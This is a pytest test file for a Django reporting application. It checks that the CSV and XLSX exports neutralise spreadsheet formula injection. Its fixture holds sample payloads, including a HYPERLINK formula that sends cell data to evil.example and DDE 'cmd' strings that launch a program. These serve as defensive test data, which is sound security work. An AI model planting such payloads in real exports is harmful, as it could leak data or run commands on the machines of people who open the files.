"""Every CSV export of the reports is safe to open in a spreadsheet: a name a provider, a desk or a family typed
that starts like a formula (OWASP: =, +, -, @, tab, carriage return) arrives as text. Through the one CSV writer,
loket.core.csvfile."""

import csv
import io
from datetime import UTC, datetime

import pytest

from loket.accounts.choices import Role
from loket.demand.lifecycle import Status
from loket.demand.services import request_change_status
from loket.testing.factories import (
    make_desk,
    make_family,
    make_location,
    make_municipality,
    make_neighbourhood,
    make_postcode,
    make_request,
    make_user,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    "location": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "organiser": "+cmd|' /C calc'!A0",
    "municipality": "@SUM(1+1)*cmd|' /C calc'!A0",
    "neighbourhood": "-2+3+cmd|' /C calc'!A0",
    "desk": "=1+1",
    "reason": "\t=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PERIOD = {"date_from": "2026-01-01", "date_to": "2026-06-30"}


@pytest.fixture
def hostile(db):
    desk = make_desk(name=HOSTILE["desk"])
    municipality = make_municipality(desk, name=HOSTILE["municipality"])
    neighbourhood = make_neighbourhood(municipality, name=HOSTILE["neighbourhood"])
    postcode = make_postcode(municipality, neighbourhood=neighbourhood)
    location = make_location(
        municipality=municipality, postcode=postcode, neighbourhood=neighbourhood, name=HOSTILE["location"]
    )
    location.organiser.name = HOSTILE["organiser"]
    location.organiser.save()
    for n in range(12):  # enough declines with the same reason to be shown as a row of their own
        request = make_request(
            make_family(desk, postcode=postcode),
            locations=[location],
            registered_at=datetime(2026, 2, 1 + n, 10, tzinfo=UTC),
            low_income=True,
            no_diploma=True,
        )
        request_change_status(request=request, to=Status.OFFERED, at=datetime(2026, 3, 1 + n, 10, tzinfo=UTC))
        request_change_status(
            request=request,
            to=Status.DECLINED,
            at=datetime(2026, 3, 2 + n, 10, tzinfo=UTC),
            reason=HOSTILE["reason"],
        )
    return desk


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return [cell for row in rows for cell in row]


def _assert_safe(cells: list[str], expected: list[str], url: str) -> None:
    for cell in cells:
        assert not cell.startswith(DANGEROUS), f"{url}: {cell!r} would run as a formula"
    for text in expected:
        assert "'" + text in cells, f"{url}: {text!r} missing or not neutralised"


def test_every_reports_csv_export_neutralises_formulas(client, hostile):
    from loket.reports.selectors import DASHBOARD_KEYS

    client.force_login(make_user(Role.POLICY_VIEWER, desk=hostile))
    expected = {
        "fair_access_locations": [HOSTILE["location"]],
        "reserve": [HOSTILE["location"]],
        "areas_neighbourhood": [HOSTILE["neighbourhood"], HOSTILE["municipality"]],
        "areas_municipality": [HOSTILE["municipality"]],
        "declines": [HOSTILE["reason"]],
    }
    for key in DASHBOARD_KEYS:
        url = f"/rapporten/export/{key}.csv"
        _assert_safe(_cells(client.get(url, PERIOD)), expected.get(key, []), url)
    url = "/rapporten/agentschap/export.csv"
    _assert_safe(_cells(client.get(url, {"year": 2026})), [HOSTILE["municipality"]], url)
    client.force_login(make_user(Role.POLICY_VIEWER))  # the regional agency
    url = "/rapporten/regio/export.csv"
    _assert_safe(_cells(client.get(url, PERIOD)), [HOSTILE["desk"]], url)


def test_the_xlsx_exports_keep_such_names_as_text(client, hostile):
    import zipfile

    from readers import read_xlsx

    client.force_login(make_user(Role.POLICY_VIEWER, desk=hostile))
    content = client.get("/rapporten/export/dashboard.xlsx", PERIOD).content
    workbook = read_xlsx(content)
    assert HOSTILE["location"] in workbook["fair_access_locations"].values()  # a string cell
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)  # no formula anywhere
